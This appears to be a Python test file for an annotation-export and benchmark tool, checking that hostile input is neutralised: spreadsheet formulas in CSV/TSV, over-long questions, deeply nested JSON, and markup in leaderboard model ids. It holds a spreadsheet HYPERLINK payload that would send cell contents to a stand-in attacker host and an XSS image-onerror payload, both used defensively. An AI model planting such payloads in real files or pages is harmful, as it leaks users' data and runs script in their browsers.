"""Hostile text: spreadsheet formulas, over-long questions, deep JSON, markup in model ids."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from annotation_export.export import export_workspace
from annotation_export.ingest import ingest_workspace
from annotation_export.params import ExportParams, IngestParams
from annotation_export.validation import MAX_OPTION_CHARS, MAX_QUESTION_CHARS
from blindpairs.cells import FORMULA_START, from_spreadsheet, to_spreadsheet
from blindpairs.cli import main
from blindpairs.workspace import Workspace
from evaluation.leaderboard import write_leaderboard
from evaluation.loaders import load_benchmark

from .files import annotation, result

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _ingest(ws: Workspace, export: list, tmp_path: Path):
    source = tmp_path / "export.json"
    source.write_text(json.dumps(export))
    return ingest_workspace(ws, IngestParams(annotations=str(source)), source)


@pytest.fixture
def exported(ws: Workspace) -> Workspace:
    export_workspace(ws, ExportParams(budget=4))
    return ws


def test_formulas_are_neutralised_in_csv_and_tsv_only(exported, ls_export, tmp_path) -> None:
    texts = {"question": FORMULA, "option_a": "+1 building", "option_b": "@two"}
    _ingest(exported, ls_export({"p000": [annotation(result(**texts))]}), tmp_path)
    bench = exported.benchmark
    with open(bench / "Questions.csv", newline="") as fh:
        mmvp = list(csv.reader(fh))[1:]
    with open(bench / "benchmark.tsv", newline="") as fh:
        tsv = list(csv.DictReader(fh, delimiter="\t"))
    cells = [r[1] for r in mmvp] + [t[k] for t in tsv for k in ("question", "A", "B")]
    assert cells and all(c[:1] not in FORMULA_START for c in cells)
    assert mmvp[0][1] == "'" + FORMULA and tsv[0]["A"] == "'+1 building"
    # the parquet keeps the text as written, and every format loads back to it
    assert pq.read_table(bench / "benchmark.parquet").column("question")[0].as_py() == FORMULA
    for path, fmt in ((bench, "parquet"), (bench, "mmvp"), (bench / "benchmark.tsv", "tsv")):
        item = load_benchmark(path, fmt).items[0]
        assert (item.question, item.option_a, item.option_b) == (FORMULA, "+1 building", "@two")


@pytest.mark.parametrize("text", [FORMULA, "-1", "'=x", "''@x", "'plain", "", "a=b", "\t=x"])
def test_the_spreadsheet_guard_round_trips(text: str) -> None:
    cell = to_spreadsheet(text)
    assert cell[:1] not in FORMULA_START
    assert from_spreadsheet(cell) == text


def test_over_long_questions_and_options_are_rejected_with_the_reason(
    exported, ls_export, tmp_path
) -> None:
    long_q = "Is " + "very " * (MAX_QUESTION_CHARS // 5) + "long?"
    export = ls_export(
        {
            "p000": [annotation(result(question=long_q))],
            "p001": [annotation(result(option_b="x" * (MAX_OPTION_CHARS + 1)))],
            "p002": [annotation(result(question="q" * MAX_QUESTION_CHARS))],  # at the limit
        }
    )
    report = _ingest(exported, export, tmp_path)
    assert report.published == ["p002"]
    reasons = {r["pair_id"]: r["reason"] for r in report.invalid}
    assert f"the limit is {MAX_QUESTION_CHARS}" in reasons["p000"]
    assert f"option (b) is {MAX_OPTION_CHARS + 1} characters long" in reasons["p001"]


def test_deeply_nested_json_is_a_clean_error(exported, tmp_path, capsys) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    rc = main(["ingest", "-w", str(exported.root), "-q", "--annotations", str(deep)])
    err = capsys.readouterr().err
    assert rc == 2 and f"{deep}: " in err and "nested too deeply" in err
    assert "Traceback" not in err and not exported.benchmark.exists()


def test_leaderboard_markdown_escapes_model_ids(tmp_path: Path) -> None:
    hostile = "openai:<img src=x onerror=alert(1)>|evil|*bold*"
    scores = {
        "model": hostile,
        "pair_accuracy": {"accuracy": 0.5, "ci95": [0.1, 0.9]},
        "question_accuracy": {"accuracy": 0.5, "ci95": [0.2, 0.8]},
        "judge": "openai:j|<b>",
        "prompt_version": "mmvp-v1",
        "complete": True,
    }
    ws = Workspace(tmp_path)
    ws.scores("run1").parent.mkdir(parents=True)
    ws.scores("run1").write_text(json.dumps(scores))
    write_leaderboard(ws)
    lines = ws.leaderboard_md.read_text().splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("| # |"))
    header, row = lines[at], lines[at + 2]
    unescaped_pipes = row.replace("\\|", "").count("|")
    assert unescaped_pipes == header.count("|")  # no extra column
    assert "<img" not in row and "<b>" not in row and "&lt;img" in row
    with open(ws.leaderboard, newline="") as fh:
        assert next(csv.DictReader(fh))["model"] == hostile  # the data file keeps it as is
